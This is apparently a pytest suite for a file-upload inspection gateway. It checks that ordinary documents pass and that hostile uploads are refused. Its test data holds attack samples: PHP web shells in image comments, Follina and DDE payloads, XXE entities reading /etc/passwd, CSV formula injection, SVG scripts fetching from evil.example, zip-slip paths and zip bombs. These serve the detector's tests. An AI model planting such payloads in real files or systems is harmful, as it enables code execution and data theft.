"""One file: what a portal's customers send passes, what pretends or acts does not."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib

import msgspec
import pytest

from gateway.inspection.upload.judgement import Offered, examine
from gateway.inspection.upload.kinds import KINDS
from gateway.inspection.upload.objection import Objection, UploadRefusedError
from gateway.inspection.upload.policy import ArchivePolicy, UploadPolicy
from gateway.inspection.upload.source import Held
from tests.unit.inspection.upload import samples
from tests.unit.inspection.upload.samples import archive, compound, document, pdf, relation, stream

EVERYTHING = UploadPolicy(types=frozenset(KINDS))
ANYTHING = UploadPolicy()
LAX = UploadPolicy(active_content="allow")


def judged(name: str, data: bytes, declared: str = "", policy: UploadPolicy = ANYTHING) -> str:
    try:
        return examine(Offered(name, declared, Held(data)), policy)
    except UploadRefusedError as refused:
        return refused.objection.value


def _mail(name: str, data: bytes, declared: str = "application/octet-stream") -> bytes:
    return (
        b"From: a@example.com\r\nSubject: Your order\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/html\r\n\r\n<html><script>hi</script></html>\r\n--b\r\n"
        + f'Content-Type: {declared}; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'.encode()
        + base64.encodebytes(data)
        + b"--b--\r\n"
    )


HONEST = [
    ("scan.pdf", "application/pdf", pdf()),
    ("cut.pdf", "application/pdf", pdf()[:-10]),
    ("newline.jpg", "image/jpeg", samples.jpeg(after=b"\r\n")),
    ("small.docx", "", archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"})),
    ("small.xlsx", "", archive({"xl/workbook.xml": "<a/>"})),
    ("photo.JPG", "image/jpeg", samples.jpeg()),
    ("photo.jpeg", "image/pjpeg", samples.jpeg(comment=b"taken by O'Brien <obrien@example.com>")),
    ("motion.jpg", "image/jpeg", samples.jpeg(after=samples.film(b"mp42"))),
    ("gainmap.jpg", "image/jpeg", samples.jpeg(after=samples.jpeg())),
    ("padded.jpg", "image/jpeg", samples.jpeg(after=bytes(300))),
    ("logo.png", "image/png", samples.png()),
    ("logo.png", "application/octet-stream", samples.png(extra=samples.chunk(b"tEXt", b"Comment\0a < b and <3"))),
    ("anim.gif", "image/gif", samples.gif(comment=b"made with love")),
    ("anim.gif", "image/gif", samples.gif()[:-1]),
    ("pic.webp", "image/webp", samples.webp()),
    ("pic.bmp", "image/bmp", samples.bitmap()),
    ("fax.tif", "image/tiff", samples.tiff()),
    ("live.heic", "image/heic", samples.film(b"heic")),
    ("clip.mp4", "video/mp4", samples.film()),
    ("clip.mov", "video/quicktime", samples.film(b"qt  ")),
    ("clip.mov", "video/mp4", samples.film()),
    ("Vertrag (unterschrieben) \u2013 Müller.docx", samples.WORD, document()),
    ("offer.docx", "application/zip", document()),
    ("letter.docx", "", document(relations=relation("hyperlink", "https://example.com/a?b=1", external=True))),
    ("letter.docx", "", document(relations=relation("attachedTemplate", "file:///C:\\Templates\\Letter.dotm", external=True))),
    ("letter.docx", "", document({"word/embeddings/Microsoft_Excel_Sheet.xlsx": samples.spreadsheet()})),
    ("toc.docx", "", document(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGEREF _Toc1 \\h</w:instrText></w:r></w:p>')),
    ("costs.xlsx", "application/vnd.ms-excel", samples.spreadsheet()),
    ("text.odt", "application/vnd.oasis.opendocument.text", samples.open_document()),
    ("old.doc", "application/msword", compound({"WordDocument": b"Dear Mrs O'Brien", "1Table": b""})),
    ("old.xls", "application/vnd.ms-excel", compound({"Workbook": b"\x09\x08\x02\0\0\6\x85\0\x08\0\0\0\0\0\0\0\1A\x0a\0\0\0"})),
    ("mail.msg", "", compound({"__properties_version1.0": b"", "__substg1.0_0037001F": "Hello".encode("utf-16-le")})),
    ("note.rtf", "text/rtf", rb"{\rtf1\ansi Dear \b Mr. O'Brien\b0 }" + b"\r\n\0"),
    ("scans.zip", "application/x-zip-compressed", archive({"a/": "", "a/scan.pdf": pdf(), "notes.txt": "hi"})),
    ("from a mac.zip", "application/zip", archive({"scan.pdf": pdf(), "__MACOSX/._scan.pdf": b"\0\5\x16\7\0\2", ".DS_Store": b"\0\0\0\1Bud1"})),
    ("empty.zip", "", archive({})),
    ("backup.tar", "application/x-tar", samples.tar({"a/scan.pdf": pdf(), "b.txt": b"hello"})),
    ("backup.tar.gz", "application/gzip", samples.tgz({"scan.pdf": pdf()})),
    ("backup.tgz", "", samples.tgz({"scan.pdf": pdf()})),
    ("costs.csv.gz", "application/gzip", gzip.compress(b"a;b\r\n1;2\r\n")),
    ("log.txt.bz2", "", bz2.compress(b"hello")),
    ("log.txt.xz", "", lzma.compress(b"hello")),
    ("costs.csv", "text/csv", "Datum;Betrag\r\n01.02.2025;-5,00 €\r\n+49 30 123;=SUM(A1:A2)\r\n".encode("cp1252")),
    ("costs.csv", "application/vnd.ms-excel", '"a|b";"- please call (030) 12, thanks!"\r\n-5;=A1+1\r\n'.encode("utf-8-sig")),
    ("costs.csv", "text/csv", "a\tb\r\nü\tß".encode("utf-16")),
    ("empty.txt", "text/plain", b""),
    ("question.txt", "text/plain", b"How do I write SELECT * FROM users WHERE id = 1? <b>Thanks</b>"),
    ("README.md", "", b'<div align="center">\n<!-- logo -->\n# Title\n```php\n<?php echo 1; ?>\n```\n'),
    ("code.txt", "text/plain", b"#!/bin/sh\necho hello\n"),
    ("data.json", "application/json", b'\n{"a": "<html>"}'),
    ("invoice.xml", "text/xml", b'<?xml version="1.0"?><Invoice xmlns="urn:oasis:ubl"><ID>1</ID></Invoice>'),
    ("drawing.svg", "image/svg+xml", b'<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:url(#b)}</style><a href="https://example.com"><path d="M0 0" style="fill:#fff"/></a><use href="#b"/></svg>'),
    ("card.vcf", "text/vcard", b"BEGIN:VCARD\nN:O'Brien\nEND:VCARD\n"),
    ("mail.eml", "message/rfc822", b"From: a@example.com\n\n<html>hello</html>"),
    ("order.eml", "message/rfc822", _mail("scan.pdf", pdf())),
    ("song.mp3", "audio/mpeg", b"ID3\x04\0\0\0\0\0\0" + bytes(64)),
    ("blob", "image/png", samples.png()),
    ("blob", "text/csv", b"a;b"),
    ("", "application/pdf", pdf()),
]  # fmt: skip


@pytest.mark.parametrize(("name", "declared", "data"), HONEST, ids=[f"{i} {case[0]}" for i, case in enumerate(HONEST)])
def test_what_customers_send_passes(name: str, declared: str, data: bytes) -> None:
    assert judged(name, data, declared, EVERYTHING) in KINDS
    assert judged(name, data, declared, ANYTHING) in KINDS


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
_OBJECTS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_SHEET = b"\x09\x08\x02\0\0\6\x85\0\x08\0\0\0\0\0\0\1\1A\x0a\0\0\0"

ACTIVE = [
    ("a script in a drawing", "a.svg", (_SVG % "<script>alert(1)</script>").encode()),
    ("a handler in a drawing", "a.svg", (_SVG % '<rect onload="alert(1)"/>').encode()),
    ("a script link in a drawing", "a.svg", (_SVG % '<a xlink:href="java&#10;script:alert(1)"><text/></a>').encode()),
    ("a page in a drawing", "a.svg", (_SVG % "<foreignObject/>").encode()),
    ("an element of HTML in a drawing", "a.svg", (_SVG % '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x"/>').encode()),
    ("a drawing that fetches", "a.svg", (_SVG % '<use href="https://evil.example/x.svg#y"/>').encode()),
    ("a drawing that fetches without a scheme", "a.svg", (_SVG % '<image href="//evil.example/x"/>').encode()),
    ("a style that fetches", "a.svg", (_SVG % "<style>@import 'x'; </style>").encode()),
    ("a style that fetches, escaped", "a.svg", (_SVG % r"<style>\40 import 'x';</style>").encode()),
    ("a fill that fetches", "a.svg", (_SVG % '<path fill="url(https://evil.example/)"/>').encode()),
    ("an animation of a link", "a.svg", (_SVG % '<set attributeName="href" to="javascript:alert(1)"/>').encode()),
    ("a stylesheet of a drawing", "a.svg", b'<?xml-stylesheet href="x.css"?>' + (_SVG % "").encode()),
    ("entities that expand", "a.svg", b'<!DOCTYPE svg [<!ENTITY a "lol">]>' + (_SVG % "&a;").encode()),
    ("an entity from a file", "a.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ("a document type from elsewhere", "a.xml", b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'),
    ("XSLT", "a.xml", b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'),
    ("XHTML within XML", "a.xml", b'<a><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></a>'),
    ("a page", "a.html", b"<p>hello"),
    ("macros", "a.docx", document({"word/vbaProject.bin": compound({"VBA": b""})})),
    ("macros in a renamed part", "a.docx", document({"word/innocent.bin": b"x"}, relations='<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.bin"/>')),
    ("macros by content type", "a.docx", document(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    ("a document with macros in its name", "a.docm", document(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
    ("a template from a server", "a.docx", document(relations=relation("attachedTemplate", "https://evil.example/t.dotm", external=True))),
    ("a template from a share", "a.docx", document(relations=relation("attachedTemplate", "\\\\10.0.0.1\\t.dotm", external=True))),
    ("a template, written with references", "a.docx", document(relations=relation("attachedTemplate", "&#104;ttps://evil.example/t", external=True))),
    ("Follina", "a.docx", document(relations=relation("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", external=True))),
    ("dynamic data exchange", "a.docx", document(body='<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>')),
    ("dynamic data exchange in pieces", "a.docx", document(body="<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO calc</w:instrText></w:r>")),
    ("dynamic data exchange in a simple field", "a.docx", document(body='<w:fldSimple w:instr=" DDE excel x"/>')),
    ("a link of dynamic data exchange", "a.xlsx", samples.spreadsheet({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})),
    ("a macro sheet of Excel 4", "a.xlsx", samples.spreadsheet({"xl/macrosheets/sheet1.xml": "<a/>"})),
    ("an embedded package", "a.docx", document({"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"calc.exe"})})),
    ("an embedded object without a program", "a.docx", document({"word/embeddings/oleObject1.bin": b"something"})),
    ("a control", "a.docx", document({"word/activeX/activeX1.bin": b"x"})),
    ("a macro of OpenDocument", "a.odt", samples.open_document({"Basic/Standard/Module1.xml": "<a/>"})),
    ("an event of OpenDocument", "a.odt", samples.open_document({"content.xml": '<a xmlns:script="s"><script:event-listener href="vnd.sun.star.script:x"/></a>'})),
    ("an entity in a document", "a.docx", document({"word/x.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'})),
    ("macros in an old document", "a.doc", compound({"WordDocument": b"", "Macros": b"", "_VBA_PROJECT": b""})),
    ("an embedded program in an old document", "a.doc", compound({"WordDocument": b"", "\x01Ole10Native": b""})),
    ("the equation editor", "a.doc", compound({"WordDocument": b"", "Equation Native": b""})),
    ("a macro sheet in an old workbook", "a.xls", compound({"Workbook": _SHEET})),
    ("dynamic data exchange in an old document", "a.doc", compound({"WordDocument": b"\x13 DDEAUTO c:\\\\x \x14\x15"})),
    ("an object in rich text", "a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    ("a template of rich text", "a.rtf", rb"{\rtf1{\*\template https://evil.example/x}}"),
    ("a script in a PDF", "a.pdf", pdf(_OBJECTS)),
    ("a script in a PDF, its name escaped", "a.pdf", pdf(b"<< /S /J#61v#61Script /JS (1) >>")),
    ("a script in a PDF, behind a comment", "a.pdf", pdf(b"<< /S %x\n/JavaScript /JS (1) >>")),
    ("a script in a PDF, its type elsewhere", "a.pdf", pdf(b"<< /S 5 0 R /JS (1) >>", b"/JavaScript")),
    ("a program that a PDF starts", "a.pdf", pdf(b"<< /S/Launch /Win << /F (cmd.exe) >> >>")),
    ("a script in an object stream", "a.pdf", pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"4 0 " + _OBJECTS)))),
    ("a script in an object stream of no type", "a.pdf", pdf(stream(b"/X 1 /Filter /FlateDecode", zlib.compress(b"4 0 " + _OBJECTS)))),
    ("a script in an object stream, in hexadecimal", "a.pdf", pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", zlib.compress(b"4 0 " + _OBJECTS).hex().encode() + b">"))),
    ("a script in an object stream that is not compressed", "a.pdf", pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"4 0 " + _OBJECTS))),
    ("a script in a form", "a.pdf", pdf(stream(b"/XFA true /Filter /FlateDecode", zlib.compress(b'<script contentType="application/x-javascript">x</script>')))),
    ("a program attached to a PDF", "a.pdf", pdf(stream(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(samples.program())))),
    ("a formula that starts a program", "a.csv", b"a;b\r\n=cmd|'/c calc'!A1;2\r\n"),
    ("a formula that starts a program, further on", "a.csv", b'a,"+1+2+cmd|\'/c calc\'!A0"\r\n'),
    ("a formula that asks a server", "a.csv", b'=WEBSERVICE("https://evil.example/"&A1)'),
    ("a program for the server in a comment", "a.jpg", samples.jpeg(comment=b"<?php system($_GET[0]); ?>")),
    ("a program for the server in a short tag", "a.gif", samples.gif(comment=b"<?=`$_GET[0]`?>")),
    ("a program for the server in a text chunk", "a.png", samples.png(extra=samples.chunk(b"tEXt", b"x\0<?PHP eval(1);"))),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), [case[1:] for case in ACTIVE], ids=[case[0] for case in ACTIVE])
def test_active_content_is_refused(name: str, data: bytes) -> None:
    assert judged(name, data) == "active_content"


@pytest.mark.parametrize(
    "case",
    [case for case in ACTIVE if not case[1].endswith(("xml", "svg")) and "entity" not in case[0]],
    ids=lambda case: str(case[0]),
)
def test_a_route_may_allow_active_content(case: tuple[str, str, bytes]) -> None:
    assert judged(case[1], case[2], policy=LAX) in KINDS


_PLAIN = archive({"a.txt": "hello"}, method=zipfile.ZIP_STORED)


def _overlapping() -> bytes:
    made = bytearray(archive({"a.txt": "x", "b.txt": "x"}, method=zipfile.ZIP_STORED))
    second = made.rindex(b"PK\x01\x02")
    made[second + 42 : second + 46] = bytes(4)  # both entries point to the first member
    made[second + 46 : second + 51] = b"b.txt"
    return bytes(made)


def _two_names() -> bytes:
    return _PLAIN.replace(b"a.txt", b"b.php", 1)


def _hidden_member() -> bytes:
    hidden = archive({"x.php": "<?php"}, method=zipfile.ZIP_STORED)
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    end = _PLAIN.index(b"PK\x01\x02")
    made = bytearray(_PLAIN[:end] + hidden + _PLAIN[end:])
    made[-6:-2] = struct.pack("<I", end + len(hidden))
    return bytes(made)


def _other_size() -> bytes:
    made = bytearray(archive({"a.txt": "hello" * 100}))
    for start in (made.index(b"PK\x03\x04") + 22, made.index(b"PK\x01\x02") + 24):
        made[start : start + 4] = struct.pack("<I", 5)
    return bytes(made)


def _link() -> bytes:
    made = zipfile.ZipInfo("a.txt")
    made.create_system, made.external_attr = 3, 0o120777 << 16
    return _archive_of(made, b"/etc/passwd")


def _archive_of(info: zipfile.ZipInfo, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as written:
        written.writestr(info, data)
    return out.getvalue()


def _looping() -> bytes:
    made = bytearray(compound({"WordDocument": b"", "x": b""}))
    directory = struct.unpack_from("<I", made, 48)[0]
    entry = len(made) - 512 + 4 * directory
    made[entry : entry + 4] = struct.pack("<I", directory)
    return bytes(made)


def _bomb(levels: int) -> bytes:
    data = archive({"a.txt": bytes(1).replace(b"\0", b"a") * (20 << 20)})
    for _ in range(levels):
        data = archive({"a.zip": data})
    return data


def _doubled(first: str, second: str) -> bytes:
    """Two members of one name, which no writer makes in one go."""
    return archive({first: "1", second: "2"}).replace(second.encode(), first.encode())


OTHERWISE = [
    ("a program attached to a mail", "a.eml", _mail("cv.pdf", samples.program()), "type_executable"),
    ("a program attached to a mail by its name", "a.eml", _mail("cv.exe", b"x"), "name_executable"),
    ("a page attached to a mail", "a.eml", _mail("invoice.html", b"<html>"), "active_content"),
    ("macros attached to a mail", "a.eml", _mail("a.docx", document({"word/vbaProject.bin": b"x"})), "active_content"),
    ("frames in frames", "a.eml", b"A: b\n" + b"Content-Type: multipart/mixed; boundary=b\n" * 200, "too_complex"),
    # disguised
    ("a page called a picture", "a.png", b"<html><script>alert(1)</script>", "type_disguised"),
    ("a page called a text", "a.txt", b"  <!DOCTYPE html><p>", "type_disguised"),
    ("a page called a text, in UTF-16", "a.txt", "<html>".encode("utf-16"), "type_disguised"),
    ("a drawing called a picture", "a.png", (_SVG % "").encode(), "type_disguised"),
    ("a drawing called XML", "a.xml", (_SVG % "").encode(), "type_disguised"),
    ("a server page called a picture", "a.jpg", b"<?php system($_GET[0]);", "type_disguised"),
    ("a server page behind the first bytes of a picture", "a.gif", b"GIF89a<?php system($_GET[0]);", "content_broken"),
    ("a picture of another kind", "a.jpg", samples.png(), "type_disguised"),
    ("a zip called a document", "a.docx", archive({"a.txt": "x"}), "type_disguised"),
    ("a document with macros called one without", "a.docx", document(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "type_disguised"),
    ("a spreadsheet called a document", "a.docx", samples.spreadsheet(), "type_disguised"),
    ("a text called a PDF", "a.pdf", b"hello", "type_disguised"),
    ("bytes called a text", "a.txt", b"hello\0world", "type_disguised"),
    ("bytes at the end of a text", "a.csv", b"a;b\n" * 100_000 + b"\0", "type_disguised"),
    ("a text called JSON", "a.json", b"hello", "type_disguised"),
    ("nothing called a PDF", "a.pdf", b"", "content_broken"),
    # programs
    ("a program", "a.pdf", samples.program(), "type_executable"),
    ("a program for Linux", "a.txt", b"\x7fELF\x02\x01\x01", "type_executable"),
    ("an installer", "a.doc", compound({"x": b""}, root_class=bytes.fromhex("84100c0000000000c000000000000046")), "type_executable"),
    ("a shortcut", "a.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "type_executable"),
    ("a serialised object", "a.bin2", b"\xac\xed\0\5sr", "type_executable"),
    # something behind or before it
    ("an archive behind a picture", "a.gif", samples.gif(after=archive({"X.class": b"x"})), "polyglot"),
    ("an archive behind a photo", "a.jpg", samples.jpeg(after=archive({"x.php": "x"})), "polyglot"),
    ("an archive behind the film of a photo", "a.jpg", samples.jpeg(after=samples.film(after=archive({"x": "x"}))), "polyglot"),
    ("an archive in the film of a photo", "a.mp4", samples.film() + struct.pack(">I", 8 + len(_PLAIN)) + b"free" + _PLAIN, "polyglot"),
    ("a page behind a picture", "a.png", samples.png(after=b"<script>alert(1)</script>"), "polyglot"),
    ("a program behind a picture", "a.webp", samples.webp(after=samples.program()), "polyglot"),
    ("an archive in a bitmap", "a.bmp", samples.bitmap() + _PLAIN, "polyglot"),
    ("another archive in a bitmap", "a.bmp", samples.bitmap() + b"Rar!\x1a\x07\0", "polyglot"),
    ("a PDF in a picture", "a.gif", samples.gif(comment=b"%PDF-1.7"), "polyglot"),
    ("a page at the beginning of a picture", "a.png", samples.png(extra=samples.chunk(b"tEXt", b"x\0<body onload=alert(1)>")), "polyglot"),
    ("an archive behind a PDF", "a.pdf", pdf(after=archive({"x.php": "x"})), "polyglot"),
    ("a page behind a PDF", "a.pdf", pdf(after=b"<html>"), "polyglot"),
    ("a program behind a PDF", "a.pdf", pdf(after=samples.program() * 30), "polyglot"),
    ("something in front of an archive", "a.zip", b"PK\3\4" + _PLAIN, "polyglot"),
    ("an archive in the comment of another", "a.zip", archive({"a.txt": "x"}, comment=_PLAIN), "polyglot"),
    ("a member that one list does not have", "a.zip", _hidden_member(), "polyglot"),
    ("something behind the end of a tape", "a.tar", samples.tar({"a.txt": b"x"}) + samples.tar({"b.php": b"x"}), "polyglot"),
    # broken
    ("a photo that ends early", "a.jpg", samples.jpeg()[:-2], "content_broken"),
    ("a picture that ends early", "a.png", samples.png()[:-12], "content_broken"),
    ("server code behind the first bytes of a PDF", "a.pdf", b"%PDF-1.7\n<?php system($_GET[0]);", "content_broken"),
    ("an archive without its end", "a.zip", _PLAIN[:-5], "content_broken"),
    ("members that overlap", "a.zip", _overlapping(), "archive_name"),
    ("a member of another size", "a.zip", _other_size(), "content_broken"),
    ("a changed member", "a.zip", _PLAIN.replace(b"hello", b"hullo", 1), "content_broken"),
    ("a document in another encoding", "a.docx", document({"word/x.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}), "content_broken"),
    ("a loop in a compound file", "a.doc", _looping(), "content_broken"),
    ("a broken gzip", "a.txt.gz", gzip.compress(b"hello")[:-4], "content_broken"),
    ("XML that is none", "a.xml", b"<a><b></a>", "content_broken"),
    # members
    ("a member that leads out", "a.zip", archive({"../../etc/cron.d/x.txt": "x"}), "archive_name"),
    ("a member with a root", "a.zip", archive({"/etc/x.txt": "x"}), "archive_name"),
    ("a member with a backslash", "a.zip", _PLAIN.replace(b"a.txt", b"..\\.x"), "archive_name"),
    ("two names of a member", "a.zip", _two_names(), "archive_name"),
    ("a name twice", "a.zip", _doubled("a.txt", "b.txt"), "archive_name"),
    ("a link", "a.zip", _link(), "archive_link"),
    ("a link on a tape", "a.tar", samples.tar({}, links=[("a.txt", "/etc/passwd")]), "archive_link"),
    ("a member of a tape that leads out", "a.tgz", samples.tgz({"../x.txt": b"x"}), "archive_name"),
    ("a program in an archive", "a.zip", archive({"invoice.pdf.exe": "x"}), "name_executable"),
    ("a program in an archive under another name", "a.zip", archive({"invoice.pdf": samples.program()}), "type_executable"),
    ("macros in an archive", "a.zip", archive({"a.docx": document({"word/vbaProject.bin": b"x"})}), "active_content"),
    ("a script in a PDF in a gzip", "a.pdf.gz", gzip.compress(pdf(_OBJECTS)), "active_content"),
    ("an attachment of a message", "a.msg", compound({"__properties_version1.0": b"", "__substg1.0_37010102": samples.program() + b"x" * 4096}), "type_executable"),
    # bombs
    ("a bomb", "a.zip", _bomb(0), "archive_ratio"),
    ("a bomb in a gzip", "a.txt.gz", gzip.compress(b"a" * (20 << 20)), "archive_ratio"),
    ("archives in archives", "a.zip", archive({"a.zip": archive({"a.zip": archive({"a.zip": _PLAIN})})}), "archive_depth"),
    ("encryption", "a.zip", samples.with_flag_of_encryption(_PLAIN), "encrypted"),
    ("an encrypted document", "a.docx", compound({"EncryptedPackage": b"", "EncryptionInfo": b""}), "encrypted"),
    ("an encrypted PDF whose objects cannot be seen", "a.pdf", pdf(b"<< /Encrypt 9 0 R >>", stream(b"/Type /ObjStm /First 4", b"x")), "encrypted"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "objection"), [case[1:] for case in OTHERWISE], ids=[case[0] for case in OTHERWISE]
)
def test_what_is_not_one_harmless_thing_is_refused(name: str, data: bytes, objection: str) -> None:
    assert judged(name, data) == objection


@pytest.mark.parametrize(
    ("name", "declared", "data"),
    [
        ("a.png", "text/html", samples.png()),
        ("a.png", "image/svg+xml", samples.png()),
        ("a.txt", "text/html", b"hello"),
        ("a.txt", "application/xhtml+xml", b"hello"),
        ("a.pdf", "image/png", pdf()),
        ("a.txt", "text/javascript", b"alert(1)"),
        ("a.csv", "application/x-httpd-php", b"a;b"),
        ("a.dwg", "text/html", b"AC10"),
        ("a.jpg", "multipart/x-mixed-replace", samples.jpeg()),
    ],
)
def test_a_declared_type_that_says_something_else_is_refused(name: str, declared: str, data: bytes) -> None:
    """A portal that serves a file with the type it came with serves a page."""
    assert judged(name, data, declared) == "type_disguised"


def test_only_listed_types_pass_and_archives_are_no_way_round() -> None:
    policy = UploadPolicy(types=frozenset(("pdf", "zip")))
    assert judged("a.pdf", pdf(), policy=policy) == "pdf"
    assert judged("a.zip", archive({"a.pdf": pdf()}), policy=policy) == "zip"
    assert judged("a.zip", archive({"a.png": samples.png()}), policy=policy) == "type_not_allowed"
    assert judged("a.png", samples.png(), policy=policy) == "type_not_allowed"
    assert judged("a.dwg", b"AC1015", policy=policy) == "type_not_allowed"
    assert judged("a.dwg", pdf(), policy=policy) == "type_not_allowed"
    assert judged("a", b"\x01\x02", policy=policy) == "type_not_allowed"
    assert judged("a.dwg", b"AC1015\0") == "unknown"


def test_a_document_may_hold_what_is_not_listed() -> None:
    policy = UploadPolicy(types=frozenset(("docx",)))
    assert judged("a.docx", document({"word/embeddings/Sheet.xlsx": samples.spreadsheet()}), policy=policy) == "docx"
    macros = samples.spreadsheet({"xl/vbaProject.bin": b"x"})
    assert judged("a.docx", document({"word/embeddings/Sheet.xlsx": macros}), policy=policy) == "active_content"


def test_macros_need_a_listed_kind_and_an_allowing_route() -> None:
    data = document({"word/vbaProject.bin": b"x"}, main="application/vnd.ms-word.document.macroEnabled.main+xml")
    assert judged("a.docm", data, policy=UploadPolicy(types=frozenset(("docm",)))) == "active_content"
    assert judged("a.docm", data, policy=UploadPolicy(types=frozenset(("docm",)), active_content="allow")) == "docm"


def test_the_limits_of_archives_are_the_routes() -> None:
    def with_limits(**limits: object) -> UploadPolicy:
        return UploadPolicy(archives=msgspec.structs.replace(ArchivePolicy(), **limits))

    nested = archive({"a.zip": archive({"a.txt": "x"})})
    assert judged("a.zip", nested, policy=with_limits(depth=1)) == "archive_depth"
    assert judged("a.zip", nested, policy=with_limits(depth=2)) == "zip"
    assert judged("a.zip", nested, policy=with_limits(entries=1)) == "archive_entries"
    assert judged("a.zip", archive({"a.txt": "x" * 10_000}), policy=with_limits(unpacked=5_000)) == "archive_size"
    assert judged("a.txt.gz", gzip.compress(b"x" * 10_000), policy=with_limits(unpacked=5_000)) == "archive_size"
    assert judged("a.zip", _bomb(0), policy=with_limits(ratio=100_000)) == "zip"
    assert judged("a.zip", samples.with_flag_of_encryption(_PLAIN), policy=with_limits(encrypted="allow")) == "zip"
    encrypted = compound({"EncryptedPackage": b"", "EncryptionInfo": b""})
    assert judged("a.docx", encrypted, policy=with_limits(encrypted="allow")) == "docx"


@pytest.mark.parametrize("objection", list(Objection))
def test_every_objection_is_a_word(objection: Objection) -> None:
    assert objection.value.replace("_", "").isalpha()
